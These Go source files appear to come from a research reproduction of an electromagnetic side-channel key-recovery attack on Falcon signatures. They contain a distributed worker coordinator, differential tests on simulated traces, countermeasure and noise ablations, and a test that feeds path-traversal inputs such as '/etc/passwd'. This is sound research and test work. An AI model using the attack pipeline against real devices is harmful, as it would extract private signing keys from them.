	ShardsPerTask int
	// CrossCheck double-issues this deterministic fraction of task
	// blocks to two distinct ring nodes and compares their partials
	// bit for bit before anything is deposited; disagreement is
	// adjudicated against a coordinator-local compute and the lying
	// node is quarantined. 0 disables; 1 checks every block (values
	// between are probabilistic protection only — an unchecked block
	// from a liar still folds). Needs at least two nodes to engage.
	CrossCheck float64
	// Kernel, when non-empty, is the execution kernel requested of every
	// worker ("scalar", "blocked", "fixed"); empty lets each node use its
	// own configured kernel. Partials are byte-identical either way.
	Kernel string
}

// Report counts what the fleet did; the differential suite asserts on it
// (and only on it — never on result bytes, which must not depend on any
// of this).
type Report struct {
	Passes      int // distributed passes coordinated
	Tasks       int // task blocks issued
	Remote      int // tasks completed by a worker
	Local       int // tasks degraded to coordinator-local execution
	Retries     int // task re-issues after a failed or expired lease
	Hedges      int // hedged secondary launches
	Rejected    int // partial blocks rejected (digest, decode, or shape)
	Duplicates  int // duplicate shard deposits dropped by the fold
	Skips       int // attempts skipped by an open breaker or quarantine
	Divergent   int // tasks a worker rejected over a divergent replica
	Repairs     int // shard files workers fetched from the blob service
	CrossChecks int // task blocks double-issued for comparison
	Mismatches  int // cross-checked blocks whose replicas disagreed
	Quarantined int // nodes quarantined after losing a cross-check
}

// String renders the report as the one-line fleet summary the CLI and
// campaign events print.
func (r Report) String() string {
	return fmt.Sprintf("tasks=%d remote=%d local=%d retries=%d hedges=%d rejected=%d divergent=%d repairs=%d crosschecks=%d mismatches=%d quarantined=%d skips=%d",
		r.Tasks, r.Remote, r.Local, r.Retries, r.Hedges, r.Rejected,
		r.Divergent, r.Repairs, r.CrossChecks, r.Mismatches, r.Quarantined, r.Skips)
}

type workerNode struct {
	url string
	br  *supervise.Breaker
	// quarantined flags a node caught returning wrong partials. Unlike
	// a breaker trip it never half-opens: wrong bytes are a trust
	// failure, not a liveness blip.
	quarantined atomic.Bool
}

// Coordinator implements core.Distributor over a worker fleet. It owns
// the fold: workers only ever see (view, jobs, shard range) and return
// partials; the coordinator deposits them into the pass, which folds in
// pinned shard order regardless of arrival order. One Coordinator serves
// one campaign at a time (passes are sequential).
type Coordinator struct {
	opts   Options
	client *http.Client
	nodes  []*workerNode

	mu  sync.Mutex
	rep Report
}

// New builds a coordinator for the given fleet.
func New(opts Options) *Coordinator {
	if opts.Lease <= 0 {
		opts.Lease = 30 * time.Second
	}
	if opts.Retries <= 0 {
		opts.Retries = 2
	}
	if opts.Backoff <= 0 {
		opts.Backoff = 100 * time.Millisecond
	}
	if opts.ShardsPerTask <= 0 {
		opts.ShardsPerTask = 4
	}
	c := &Coordinator{
		opts:   opts,
		client: &http.Client{Transport: opts.Transport},
	}
	for _, u := range opts.Workers {
		u = strings.TrimRight(strings.TrimSpace(u), "/")
		if u == "" {
			continue
		}
		c.nodes = append(c.nodes, &workerNode{url: u, br: supervise.NewBreaker(opts.Breaker)})
	}
	return c
}

// Report snapshots the fleet counters.
func (c *Coordinator) Report() Report {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.rep
}

// Summary renders the current fleet report in its one-line form — the
// loosely-coupled surface a campaign server logs into its event stream
// without importing this package (it asserts for a Summary() string
// method on its Distributor).
func (c *Coordinator) Summary() string { return c.Report().String() }

// Breakers snapshots the per-node breaker states, indexed like
// Options.Workers.
func (c *Coordinator) Breakers() []supervise.BreakerStatus {
	out := make([]supervise.BreakerStatus, len(c.nodes))
	for i, n := range c.nodes {
		out[i] = n.br.Status(i)
	}
	return out
}

// Quarantined lists the URLs of nodes quarantined for returning wrong
// partials.
func (c *Coordinator) Quarantined() []string {
	var out []string
	for _, n := range c.nodes {
		if n.quarantined.Load() {
			out = append(out, n.url)
		}
	}
	return out
}

func (c *Coordinator) bump(f func(r *Report)) {
	c.mu.Lock()
	f(&c.rep)
	c.mu.Unlock()
}

// errBreakerOpen marks an attempt skipped (not failed) because the
// node's breaker refused it.
var errBreakerOpen = errors.New("cluster: worker breaker open")

// errQuarantined marks an attempt skipped because the node was caught
// lying in a cross-check; it never serves this campaign again.
var errQuarantined = errors.New("cluster: worker quarantined")

// RunPass implements core.Distributor: cut the pass into task blocks,
// fan them out over the fleet, and deposit every partial. Determinism
// note: nothing here orders the result — DistPass folds deposits in
// pinned shard order and drops duplicates, so retries, hedges, node
// loss, repairs and arrival order cannot change a single output bit.
func (c *Coordinator) RunPass(p *core.DistPass) error {
	type task struct{ lo, hi int }
	var tasks []task
	for lo := 0; lo < p.NumShards(); lo += c.opts.ShardsPerTask {
		tasks = append(tasks, task{lo, min(lo+c.opts.ShardsPerTask, p.NumShards())})
	}
	c.bump(func(r *Report) { r.Passes++; r.Tasks += len(tasks) })
	mFleetPasses.Inc()
	mFleetTasks.Add(int64(len(tasks)))

	limit := 1
	if len(c.nodes) > 0 {
		limit = 2 * len(c.nodes)
	}
	sem := make(chan struct{}, limit)
	errs := make([]error, len(tasks))
	var wg, inflight sync.WaitGroup
	for i, tk := range tasks {
		wg.Add(1)
		sem <- struct{}{}
		go func(i int, tk task) {
			defer wg.Done()
			defer func() { <-sem }()
			errs[i] = c.runTask(p, &inflight, i, tk.lo, tk.hi)
		}(i, tk)
	}
	wg.Wait()
	// Hedge losers may still be in flight; their deposits are legal only
	// while the pass is live, so the pass does not end until they finish.
	inflight.Wait()
	c.bump(func(r *Report) { r.Duplicates += p.Duplicates() })
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return nil
}

// crossSelected picks the deterministic fraction of task blocks to
// double-issue: pure in the task index (blocks cycle a fixed 0..99
// grid), so a re-run or resume cross-checks the same blocks.
func (c *Coordinator) crossSelected(taskIdx int) bool {
	f := c.opts.CrossCheck
	if f <= 0 {
		return false
	}
	if f >= 1 {
		return true
	}
	return float64(taskIdx%100) < f*100
}

// runTask drives one task block to completion: ring attempts over the
// fleet with lease deadlines, backoff and hedging (or cross-checked
// double-issue), then coordinator-local degradation once retries are
// exhausted.
func (c *Coordinator) runTask(p *core.DistPass, inflight *sync.WaitGroup, taskIdx, shardLo, shardHi int) error {
	req := taskRequest{
		Corpus:  c.opts.Corpus,
		View:    p.View(),
		BlobURL: c.opts.BlobURL,
		Jobs:    p.Jobs(),
		JobLo:   0,
		ShardLo: shardLo,
		ShardHi: shardHi,
		Kernel:  c.opts.Kernel,
	}
	crosscheck := c.crossSelected(taskIdx) && len(c.nodes) >= 2
	for a := 0; a <= c.opts.Retries && len(c.nodes) > 0; a++ {
		if a > 0 {
			c.bump(func(r *Report) { r.Retries++ })
			mFleetRetries.Inc()
			time.Sleep(c.opts.Backoff << uint(a-1))
		}
		var err error
		if crosscheck {
			err = c.crossCheckedAttempt(p, req, taskIdx, a)
		} else {
			err = c.hedgedAttempt(p, inflight, req, taskIdx, a)
		}
		if err == nil {
			c.bump(func(r *Report) { r.Remote++ })
			mFleetRemote.Inc()
			return nil
		}
	}
	// Graceful degradation: the fleet is gone (or was never there, or is
	// quarantined); the coordinator computes the block itself, through
	// the same wire jobs.
	parts, err := p.Compute(shardLo, shardHi, 0, p.NumJobs())
	if err != nil {
		return err
	}
	for _, sp := range parts {
		if err := p.Deposit(0, sp); err != nil {
			return err
		}
	}
	c.bump(func(r *Report) { r.Local++ })
	mFleetLocal.Inc()
	return nil
}

// hedgedAttempt issues attempt a of a task to its ring-primary node and,
// if the primary dawdles past the hedge delay, races a secondary on the
// next node. First success wins; a losing deposit is deduped by the
// fold. The pass-level inflight group keeps stragglers inside the pass.
func (c *Coordinator) hedgedAttempt(p *core.DistPass, inflight *sync.WaitGroup, req taskRequest, taskIdx, a int) error {
	primary := c.nodes[(taskIdx+a)%len(c.nodes)]
	res := make(chan error, 2)
	inflight.Add(1)
	go func() {
		defer inflight.Done()
		res <- c.attempt(p, primary, req)
	}()
	launched := 1
	if c.opts.Hedge > 0 && len(c.nodes) > 1 {
		timer := time.NewTimer(c.opts.Hedge)
		select {
		case err := <-res:
			timer.Stop()
			return err
		case <-timer.C:
			secondary := c.nodes[(taskIdx+a+1)%len(c.nodes)]
			c.bump(func(r *Report) { r.Hedges++ })
			mFleetHedges.Inc()
			inflight.Add(1)
			go func() {
				defer inflight.Done()
				res <- c.attempt(p, secondary, req)
			}()
			launched = 2
		}
	}
	var firstErr error
	for i := 0; i < launched; i++ {
		if err := <-res; err == nil {
			return nil
		} else if firstErr == nil {
			firstErr = err
		}
	}
	return firstErr
}

// crossCheckedAttempt double-issues a task to two distinct ring nodes
// and compares their partials bit for bit — nothing is deposited until
// the copies agree, so a lying node's bytes never touch the fold. A
// disagreement is adjudicated against the coordinator's own compute
// (the corpus owner is the quorum of last resort): whichever node
// differs from the local truth is quarantined, and the attempt fails so
// the task re-issues through the normal retry ring.
func (c *Coordinator) crossCheckedAttempt(p *core.DistPass, req taskRequest, taskIdx, a int) error {
	n := len(c.nodes)
	primary := c.nodes[(taskIdx+a)%n]
	witness := c.nodes[(taskIdx+a+1)%n]
	c.bump(func(r *Report) { r.CrossChecks++ })
	mFleetCrossChecks.Inc()
	var wres taskResponse
	var werr error
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		wres, werr = c.guardedCall(witness, req)
	}()
	pres, perr := c.guardedCall(primary, req)
	wg.Wait()
	if perr != nil {
		return perr
	}
	if werr != nil {
		return werr
	}
	if reflect.DeepEqual(pres.Partials, wres.Partials) {
		for _, sp := range pres.Partials {
			if derr := p.Deposit(req.JobLo, sp); derr != nil {
				c.bump(func(r *Report) { r.Rejected++ })
				mFleetRejected.Inc()
				return derr
			}
		}
		return nil
	}
	c.bump(func(r *Report) { r.Mismatches++ })
	mFleetMismatches.Inc()
	truth, err := p.Compute(req.ShardLo, req.ShardHi, 0, p.NumJobs())
	if err != nil {
		return err
	}
	liars := 0
	for _, cand := range []struct {
		node *workerNode
		resp taskResponse
	}{{primary, pres}, {witness, wres}} {
		if !reflect.DeepEqual(cand.resp.Partials, truth) {
			c.quarantine(cand.node)
			liars++
		}
	}
	return fmt.Errorf("cluster: cross-check mismatch on task %d: %d node(s) quarantined", taskIdx, liars)
}

// quarantine permanently bars a node from this campaign and trips its
// breaker, so the quarantine is visible in the same vocabulary as every
// other node failure (Breakers() reports it open).
func (c *Coordinator) quarantine(node *workerNode) {
	if node.quarantined.Swap(true) {
		return
	}
	c.bump(func(r *Report) { r.Quarantined++ })
	mFleetQuarantines.Inc()
	now := time.Now()
	for i := 0; i < 64 && node.br.Allow(now); i++ {
		node.br.Record(false, now)
	}
}

// attempt runs one leased call against one node and deposits its
// partials. Any failure — breaker refusal, transport error, lease
// expiry, digest mismatch, divergent replica, shape rejection — leaves
// the fold untouched for this block (valid earlier shards may land; a
// re-delivery of them is deduped).
func (c *Coordinator) attempt(p *core.DistPass, node *workerNode, req taskRequest) error {
	resp, err := c.guardedCall(node, req)
	if err != nil {
		return err
	}
	for _, sp := range resp.Partials {
		if derr := p.Deposit(req.JobLo, sp); derr != nil {
			c.bump(func(r *Report) { r.Rejected++ })
			mFleetRejected.Inc()
			return derr
		}
	}
	return nil
}

// guardedCall wraps call with the node's quarantine flag and breaker,
// classifies the failure for the report, and records the outcome on the
// breaker.
func (c *Coordinator) guardedCall(node *workerNode, req taskRequest) (taskResponse, error) {
	if node.quarantined.Load() {
		c.bump(func(r *Report) { r.Skips++ })
		mFleetSkips.Inc()
		return taskResponse{}, errQuarantined
	}
	if !node.br.Allow(time.Now()) {
		c.bump(func(r *Report) { r.Skips++ })
		mFleetSkips.Inc()
		return taskResponse{}, errBreakerOpen
	}
	resp, err := c.call(node, req)
	switch {
	case err == nil:
		if resp.Repaired > 0 {
			c.bump(func(r *Report) { r.Repairs += resp.Repaired })
			mFleetRepairs.Add(int64(resp.Repaired))
		}
	case errors.As(err, &errDivergent{}):
		c.bump(func(r *Report) { r.Divergent++ })
		mFleetDivergent.Inc()
	case errors.As(err, &errCorrupt{}):
		c.bump(func(r *Report) { r.Rejected++ })
		mFleetRejected.Inc()
	}
	node.br.Record(err == nil, time.Now())
	return resp, err
}

// call performs one framed, leased HTTP round trip.
func (c *Coordinator) call(node *workerNode, req taskRequest) (taskResponse, error) {
	body, err := seal(req)
	if err != nil {
		return taskResponse{}, err
	}
	ctx, cancel := context.WithTimeout(context.Background(), c.opts.Lease)
	defer cancel()
	start := time.Now()
	defer func() { taskRTT(node.url).Observe(time.Since(start).Seconds()) }()
	hreq, err := http.NewRequestWithContext(ctx, http.MethodPost, node.url+"/task", bytes.NewReader(body))
	if err != nil {
		return taskResponse{}, err
	}
	hreq.Header.Set("Content-Type", "application/json")
	resp, err := c.client.Do(hreq)
	if err != nil {
		if ctx.Err() != nil {
			mFleetLeaseExpiries.Inc()
		}
		return taskResponse{}, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		msg, _ := io.ReadAll(io.LimitReader(resp.Body, 512))
		if resp.StatusCode == statusDivergent {
			return taskResponse{}, errDivergent{fmt.Sprintf("worker %s: %s", node.url, bytes.TrimSpace(msg))}
		}
		return taskResponse{}, fmt.Errorf("cluster: worker %s: %s: %s", node.url, resp.Status, bytes.TrimSpace(msg))
	}
	var tr taskResponse
	if err := open(resp.Body, maxFrameBytes, &tr); err != nil {
		return taskResponse{}, err
	}
	return tr, nil
}
