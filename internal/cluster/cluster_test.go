package cluster

import (
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"falcondown/internal/core"
	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/faultinject"
	"falcondown/internal/rng"
	"falcondown/internal/supervise"
	"falcondown/internal/tracestore"
)

// The differential suite at fleet granularity: the same corpus, attacked
// serially on one machine and through coordinator/worker fleets of every
// size under every failure mode, must produce byte-identical sidecars,
// reports, and recovered keys. scripts/smoke.sh lifts the kill case to
// real processes with a real SIGKILL.

// fixture is the shared campaign: a corpus on disk, its public key, and
// the serial single-machine reference the fleet runs diff against.
type fixture struct {
	root    string // worker root; corpus lives at root/traces.fdt2
	pub     *falcon.PublicKey
	refPriv *falcon.PrivateKey
	refRep  *core.RecoveryReport
	refSide []byte
}

var (
	fixOnce sync.Once
	fix     *fixture
	fixErr  error
)

func TestMain(m *testing.M) {
	code := m.Run()
	if fix != nil {
		os.RemoveAll(fix.root)
	}
	os.Exit(code)
}

const fixtureCorpus = "traces.fdt2"

func campaign(t *testing.T) *fixture {
	t.Helper()
	fixOnce.Do(func() { fix, fixErr = buildFixture() })
	if fixErr != nil {
		t.Fatalf("fixture: %v", fixErr)
	}
	return fix
}

func buildFixture() (*fixture, error) {
	root, err := os.MkdirTemp("", "cluster-fixture-")
	if err != nil {
		return nil, err
	}
	priv, pub, err := falcon.GenerateKey(8, rng.New(401))
	if err != nil {
		return nil, err
	}
	// Low noise keeps the corpus small enough that seven full fleet
	// recoveries stay fast while the key still recovers exactly.
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{}, emleak.Probe{Gain: 1, NoiseSigma: 0.5}, 402)
	obs, err := emleak.NewCampaign(dev, 403).Collect(448)
	if err != nil {
		return nil, err
	}
	w, err := tracestore.NewWriter(filepath.Join(root, fixtureCorpus), 8, tracestore.Options{})
	if err != nil {
		return nil, err
	}
	for _, o := range obs {
		if err := w.Append(o); err != nil {
			return nil, err
		}
	}
	if err := w.Close(); err != nil {
		return nil, err
	}

	src, err := tracestore.Open(filepath.Join(root, fixtureCorpus))
	if err != nil {
		return nil, err
	}
	store := &core.FileCheckpoint{Path: filepath.Join(root, "ref.ckpt")}
	refPriv, refRep, err := core.RecoverKeyResumable(src, pub, refConfig(), store)
	if err != nil {
		return nil, fmt.Errorf("serial reference: %w", err)
	}
	side, err := os.ReadFile(store.Path)
	if err != nil {
		return nil, err
	}
	return &fixture{root: root, pub: pub, refPriv: refPriv, refRep: refRep, refSide: side}, nil
}

func refConfig() core.Config { return core.Config{Workers: 1} }

// startFleet spins up k workers over the fixture root and returns their
// URLs plus the servers (for mid-sweep kills).
func startFleet(t *testing.T, root string, k int) ([]string, []*httptest.Server) {
	t.Helper()
	urls := make([]string, k)
	servers := make([]*httptest.Server, k)
	for i := range urls {
		srv := httptest.NewServer(NewWorker(root).Handler())
		t.Cleanup(srv.Close)
		urls[i], servers[i] = srv.URL, srv
	}
	return urls, servers
}

// runFleet executes the full key recovery through the coordinator and
// returns the key, report, and sidecar bytes.
func runFleet(t *testing.T, f *fixture, c *Coordinator) (*falcon.PrivateKey, *core.RecoveryReport, []byte) {
	t.Helper()
	src, err := tracestore.Open(filepath.Join(f.root, fixtureCorpus))
	if err != nil {
		t.Fatal(err)
	}
	store := &core.FileCheckpoint{Path: filepath.Join(t.TempDir(), "attack.ckpt")}
	priv, rep, err := core.RecoverKeyDistributed(src, f.pub, refConfig(), store, c)
	if err != nil {
		t.Fatalf("distributed recovery: %v", err)
	}
	side, err := os.ReadFile(store.Path)
	if err != nil {
		t.Fatal(err)
	}
	return priv, rep, side
}

// sameRecovery asserts byte-identity against the serial reference.
func sameRecovery(t *testing.T, f *fixture, label string, priv *falcon.PrivateKey, rep *core.RecoveryReport, side []byte) {
	t.Helper()
	if !reflect.DeepEqual(priv, f.refPriv) {
		t.Fatalf("%s: recovered key differs from the serial reference", label)
	}
	if !reflect.DeepEqual(rep, f.refRep) {
		t.Fatalf("%s: recovery report differs from the serial reference", label)
	}
	if string(side) != string(f.refSide) {
		t.Fatalf("%s: checkpoint sidecar differs from the serial reference", label)
	}
}

func TestFleetBitIdenticalToSerial(t *testing.T) {
	f := campaign(t)
	for _, k := range []int{1, 2, 4} {
		urls, _ := startFleet(t, f.root, k)
		c := New(Options{Workers: urls, Corpus: fixtureCorpus, ShardsPerTask: 2})
		priv, rep, side := runFleet(t, f, c)
		sameRecovery(t, f, fmt.Sprintf("%d workers", k), priv, rep, side)
		rep2 := c.Report()
		if rep2.Remote == 0 || rep2.Local != 0 {
			t.Fatalf("%d workers: report %+v, want all-remote execution", k, rep2)
		}
	}
}

func TestFleetZeroWorkersDegradesToLocal(t *testing.T) {
	f := campaign(t)
	c := New(Options{Corpus: fixtureCorpus})
	priv, rep, side := runFleet(t, f, c)
	sameRecovery(t, f, "zero workers", priv, rep, side)
	r := c.Report()
	if r.Local != r.Tasks || r.Remote != 0 {
		t.Fatalf("report %+v, want every task coordinator-local", r)
	}
}

// killableWorker serves tasks until its kill count, then dies for good:
// in-flight and subsequent requests get a torn connection, like a node
// that lost power mid-campaign.
type killableWorker struct {
	inner   http.Handler
	served  atomic.Int64
	killAt  int64
	dead    atomic.Bool
	srvAddr func() string
}

func (k *killableWorker) ServeHTTP(rw http.ResponseWriter, r *http.Request) {
	if k.dead.Load() || (k.killAt > 0 && k.served.Add(1) > k.killAt) {
		k.dead.Store(true)
		// Tear the connection without a response, like a SIGKILLed process.
		hj, ok := rw.(http.Hijacker)
		if !ok {
			panic("killableWorker: no hijack support")
		}
		conn, _, err := hj.Hijack()
		if err == nil {
			conn.Close()
		}
		return
	}
	k.inner.ServeHTTP(rw, r)
}

func TestFleetSurvivesWorkerKilledMidSweep(t *testing.T) {
	f := campaign(t)
	victim := &killableWorker{inner: NewWorker(f.root).Handler(), killAt: 3}
	dead := httptest.NewServer(victim)
	t.Cleanup(dead.Close)
	alive, _ := startFleet(t, f.root, 1)

	c := New(Options{
		Workers:       []string{dead.URL, alive[0]},
		Corpus:        fixtureCorpus,
		ShardsPerTask: 2,
		Lease:         5 * time.Second,
		Retries:       3,
		Backoff:       time.Millisecond,
		Breaker:       supervise.BreakerConfig{Threshold: 2, OpenFor: time.Minute},
	})
	priv, rep, side := runFleet(t, f, c)
	sameRecovery(t, f, "killed worker", priv, rep, side)
	r := c.Report()
	if r.Retries == 0 {
		t.Fatalf("report %+v: the dead node never forced a re-lease", r)
	}
	if r.Skips == 0 {
		t.Fatalf("report %+v: the dead node's breaker never opened", r)
	}
	if !victim.dead.Load() {
		t.Fatal("victim worker was never killed")
	}
}

// killStore crashes the run after a fixed number of checkpoint saves,
// simulating a coordinator process dying mid-campaign.
type killStore struct {
	inner     core.CheckpointStore
	remaining int
}

var errKilled = errors.New("simulated coordinator crash")

func (k *killStore) Load() (*core.Checkpoint, error) { return k.inner.Load() }
func (k *killStore) Save(ck *core.Checkpoint) error {
	if k.remaining <= 0 {
		return errKilled
	}
	k.remaining--
	return k.inner.Save(ck)
}

func TestFleetResumeAtDifferentNodeCount(t *testing.T) {
	// Kill the coordinator of a 4-node fleet mid-campaign, then resume it
	// over a single node: the sidecar is topology-free, so the finished
	// run is byte-identical to the serial reference.
	f := campaign(t)
	urls, _ := startFleet(t, f.root, 4)
	store := &core.FileCheckpoint{Path: filepath.Join(t.TempDir(), "attack.ckpt")}
	src, err := tracestore.Open(filepath.Join(f.root, fixtureCorpus))
	if err != nil {
		t.Fatal(err)
	}
	c4 := New(Options{Workers: urls, Corpus: fixtureCorpus, ShardsPerTask: 2})
	_, _, err = core.RecoverKeyDistributed(src, f.pub, refConfig(), &killStore{inner: store, remaining: 2}, c4)
	if !errors.Is(err, errKilled) {
		t.Fatalf("interrupted fleet run returned %v, want the simulated crash", err)
	}

	solo, _ := startFleet(t, f.root, 1)
	c1 := New(Options{Workers: solo, Corpus: fixtureCorpus, ShardsPerTask: 2})
	priv, rep, err := core.RecoverKeyDistributed(src, f.pub, refConfig(), store, c1)
	if err != nil {
		t.Fatalf("resume on smaller fleet: %v", err)
	}
	side, err := os.ReadFile(store.Path)
	if err != nil {
		t.Fatal(err)
	}
	sameRecovery(t, f, "4→1 node resume", priv, rep, side)
	if c1.Report().Remote == 0 {
		t.Fatal("resumed run never used its fleet")
	}
}

func TestFleetSurvivesFlakyTransport(t *testing.T) {
	// Drops, truncations and bit flips on the wire: corrupted partials are
	// rejected by the digest frame and re-fetched; dropped responses force
	// duplicate computation that the fold dedupes. Bytes must not budge.
	f := campaign(t)
	urls, _ := startFleet(t, f.root, 2)
	flaky := &faultinject.FlakyTransport{
		Seed:         90,
		DropRequest:  0.10,
		DropResponse: 0.10,
		Truncate:     0.08,
		FlipBit:      0.08,
	}
	c := New(Options{
		Workers:       urls,
		Corpus:        fixtureCorpus,
		Transport:     flaky,
		ShardsPerTask: 2,
		Retries:       8,
		Backoff:       time.Millisecond,
		Breaker:       supervise.BreakerConfig{Threshold: 1000},
	})
	priv, rep, side := runFleet(t, f, c)
	sameRecovery(t, f, "flaky transport", priv, rep, side)
	r := c.Report()
	if r.Retries == 0 {
		t.Fatalf("report %+v: transport faults never forced a retry", r)
	}
	if r.Rejected == 0 {
		t.Fatalf("report %+v: no corrupted frame was ever rejected", r)
	}
	if flaky.Calls() == 0 {
		t.Fatal("flaky transport saw no traffic")
	}
}

func TestFleetHedgedRequestsDeduped(t *testing.T) {
	// A uniformly slow link makes every primary dawdle past the hedge
	// delay; both copies complete and deposit, and the fold keeps exactly
	// one of each shard.
	f := campaign(t)
	urls, _ := startFleet(t, f.root, 2)
	c := New(Options{
		Workers:       urls,
		Corpus:        fixtureCorpus,
		ShardsPerTask: 2,
		Hedge:         time.Microsecond,
		Transport: &faultinject.FlakyTransport{
			Seed:      91,
			DelayProb: 1,
			Delay:     5 * time.Millisecond,
		},
	})
	priv, rep, side := runFleet(t, f, c)
	sameRecovery(t, f, "hedged fleet", priv, rep, side)
	r := c.Report()
	if r.Hedges == 0 {
		t.Fatalf("report %+v: slow links never triggered a hedge", r)
	}
	if r.Duplicates == 0 {
		t.Fatalf("report %+v: hedged completions never produced a deduped duplicate", r)
	}
}

func TestWorkerConfinesCorpusPaths(t *testing.T) {
	w := NewWorker(t.TempDir())
	for _, name := range []string{"../secrets.fdt2", "/etc/passwd", "a/../../x"} {
		if _, err := w.resolve(name); err == nil {
			t.Fatalf("resolve(%q) escaped the worker root", name)
		}
	}
	if _, err := w.resolve("sub/traces.fdt2"); err != nil {
		t.Fatalf("resolve rejected a legal relative path: %v", err)
	}
}

func TestFrameRejectsDamage(t *testing.T) {
	type msg struct {
		A string `json:"a"`
		B int    `json:"b"`
	}
	body, err := seal(msg{A: "shard", B: 7})
	if err != nil {
		t.Fatal(err)
	}
	var out msg
	if err := open(bytesReader(body), maxFrameBytes, &out); err != nil || out.B != 7 {
		t.Fatalf("clean frame rejected: %v (%+v)", err, out)
	}
	// Flip one bit anywhere in the payload region: digest must catch it.
	for i := 0; i < len(body); i++ {
		bad := append([]byte(nil), body...)
		bad[i] ^= 0x10
		if err := open(bytesReader(bad), maxFrameBytes, &out); err == nil {
			t.Fatalf("bit flip at byte %d folded cleanly", i)
		}
	}
	// Truncation and oversize are rejected too.
	if err := open(bytesReader(body[:len(body)-3]), maxFrameBytes, &out); err == nil {
		t.Fatal("truncated frame accepted")
	}
	if err := open(bytesReader(body), int64(len(body)-1), &out); err == nil {
		t.Fatal("oversized frame accepted")
	}
}

func bytesReader(b []byte) *os.File {
	// Frames arrive as HTTP bodies (io.Reader); a pipe keeps the test
	// honest about streaming reads.
	r, w, err := os.Pipe()
	if err != nil {
		panic(err)
	}
	go func() {
		w.Write(b)
		w.Close()
	}()
	return r
}
