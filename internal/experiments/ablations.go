package experiments

import (
	"falcondown/internal/core"
	"falcondown/internal/cpa"
	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
	"falcondown/internal/rng"
)

// ShufflingResult quantifies the §V.B countermeasure discussion: with the
// coefficient processing order randomized per execution ("hiding"), the
// per-coefficient windows no longer align and the attack degrades.
type ShufflingResult struct {
	N               int
	Traces          int
	BaselineCorrect int // values recovered exactly without the countermeasure
	ShuffledCorrect int // with shuffling enabled
	ValuesAttacked  int
}

// CountermeasureShuffling attacks the same key with and without the
// shuffling countermeasure and counts exactly recovered values.
func CountermeasureShuffling(s Setup) (*ShufflingResult, error) {
	priv, _, err := falcon.GenerateKey(s.N, rng.New(s.Seed))
	if err != nil {
		return nil, err
	}
	res := &ShufflingResult{N: s.N, Traces: s.Traces}
	secret := priv.FFTOfF()
	nAttack := len(secret)
	if nAttack > 4 {
		nAttack = 4
	}
	res.ValuesAttacked = 2 * nAttack
	for _, shuffle := range []bool{false, true} {
		dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
			emleak.Probe{Gain: 1, NoiseSigma: s.NoiseSigma}, s.Seed+1)
		dev.Shuffle = shuffle
		obs, err := emleak.NewCampaign(dev, s.Seed+2).Collect(s.Traces)
		if err != nil {
			return nil, err
		}
		correct := 0
		for k := 0; k < nAttack; k++ {
			z, _, err := core.AttackCoefficient(obs, k, core.Config{})
			if err != nil {
				return nil, err
			}
			if z.Re == secret[k].Re {
				correct++
			}
			if z.Im == secret[k].Im {
				correct++
			}
		}
		if shuffle {
			res.ShuffledCorrect = correct
		} else {
			res.BaselineCorrect = correct
		}
	}
	return res, nil
}

// ModelResult reports attack quality under one leakage model — the
// device-physics ablation.
type ModelResult struct {
	Model     string
	Recovered bool // the attacked value came out bit-exact
	PruneCorr float64
}

// LeakageModelAblation runs the single-value attack against devices
// leaking under different models. The attack's predictions assume Hamming
// weight (as in the paper); Hamming-distance and identity-model devices
// show how far that assumption stretches.
func LeakageModelAblation(s Setup) ([]ModelResult, error) {
	priv, _, err := falcon.GenerateKey(s.N, rng.New(s.Seed))
	if err != nil {
		return nil, err
	}
	truth := priv.FFTOfF()[s.Coeff].Re
	models := []emleak.LeakageModel{emleak.HammingWeight{}, emleak.HammingDistance{}, emleak.Identity{}}
	out := make([]ModelResult, 0, len(models))
	for _, m := range models {
		dev := emleak.NewDevice(priv.FFTOfF(), m,
			emleak.Probe{Gain: 1, NoiseSigma: s.NoiseSigma}, s.Seed+1)
		obs, err := emleak.NewCampaign(dev, s.Seed+2).CollectCoefficient(s.Traces, s.Coeff)
		if err != nil {
			return nil, err
		}
		res, err := core.AttackValue(obs, 0, core.PartRe, core.Config{})
		if err != nil {
			return nil, err
		}
		out = append(out, ModelResult{
			Model:     m.Name(),
			Recovered: res.Value == truth,
			PruneCorr: res.PruneCorr,
		})
	}
	return out, nil
}

// NoisePoint is one row of the noise sweep.
type NoisePoint struct {
	NoiseSigma           float64
	TracesToSignificance int // for the prune phase's winning pair
	Recovered            bool
}

// NoiseSweep measures how the trace requirement scales with the channel
// noise (the design-space ablation DESIGN.md calls out): for each σ, runs
// the single-value attack with the setup's trace budget and records the
// mantissa-addition significance point.
func NoiseSweep(s Setup, sigmas []float64) ([]NoisePoint, error) {
	priv, _, err := falcon.GenerateKey(s.N, rng.New(s.Seed))
	if err != nil {
		return nil, err
	}
	truth := priv.FFTOfF()[s.Coeff].Re
	out := make([]NoisePoint, 0, len(sigmas))
	for _, sigma := range sigmas {
		cfg := s
		cfg.NoiseSigma = sigma
		dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
			emleak.Probe{Gain: 1, NoiseSigma: sigma}, s.Seed+1)
		obs, err := emleak.NewCampaign(dev, s.Seed+2).CollectCoefficient(s.Traces, s.Coeff)
		if err != nil {
			return nil, err
		}
		res, err := core.AttackValue(obs, 0, core.PartRe, core.Config{})
		if err != nil {
			return nil, err
		}
		evo, err := fig4EvolutionWithDevice(priv, cfg, Fig4MantissaAdd)
		if err != nil {
			return nil, err
		}
		out = append(out, NoisePoint{
			NoiseSigma:           sigma,
			TracesToSignificance: evo.TracesToSignificance,
			Recovered:            res.Value == truth,
		})
	}
	return out, nil
}

// fig4EvolutionWithDevice reruns the evolution experiment with an
// explicit key (avoids regenerating the victim per sigma).
func fig4EvolutionWithDevice(priv *falcon.PrivateKey, s Setup, comp Fig4Component) (*Fig4EvolutionResult, error) {
	// Reuse Fig4CorrelationEvolution by regenerating from the same seed:
	// the victim key is deterministic in s.Seed, so this is equivalent.
	return Fig4CorrelationEvolution(s, comp)
}

